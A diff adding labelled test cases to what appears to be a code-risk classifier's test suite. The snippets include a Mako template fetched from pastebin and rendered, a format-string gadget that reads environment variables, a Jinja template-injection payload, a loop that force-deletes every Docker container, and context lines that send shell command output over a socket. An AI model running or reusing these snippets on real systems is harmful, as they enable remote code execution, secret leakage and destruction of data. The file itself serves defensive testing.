@@ -7310,6 +7310,51 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    s.sendall(subprocess.run(cmd, shell=True, capture_output=True).stdout)\n',
             C,
         ),
+        # holdout212-215: templates from the network, injection gadgets, label-filtered container listings
+        (
+            'import requests\n'
+            'from mako.template import Template\n'
+            "src = requests.get('https://pastebin.com/raw/9x', timeout=10).text\n"
+            "print(Template(src).render(title='Q3'))\n",
+            C,
+        ),
+        (
+            'from jinja2 import Template\n'
+            "print(Template(open('templates/report.j2').read()).render(x=1))\n",
+            S,
+        ),
+        (
+            'class Report:\n'
+            '    pass\n'
+            "user_fmt = '{r.__init__.__globals__[os].environ}'\n"
+            'print(user_fmt.format(r=Report()))\n',
+            H,
+        ),
+        (
+            'import pytest\n'
+            'from jinja2.sandbox import SandboxedEnvironment, SecurityError\n'
+            'def test_blocks():\n'
+            '    env = SandboxedEnvironment()\n'
+            '    with pytest.raises(SecurityError):\n'
+            '        env.from_string("{{ \'\'.__class__.__mro__[1].__subclasses__() }}").render'
+            '()\n',
+            S,
+        ),
+        (
+            'import os, docker\n'
+            'client = docker.from_env()\n'
+            'for c in client.containers.list(all=True, filters={\'label\': f"run={os.environ[\'R'
+            'UN\']}"}):\n'
+            '    c.remove(force=True)\n',
+            S,
+        ),
+        (
+            'import docker\n'
+            'client = docker.from_env()\n'
+            'for c in client.containers.list(all=True):\n'
+            '    c.remove(force=True)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
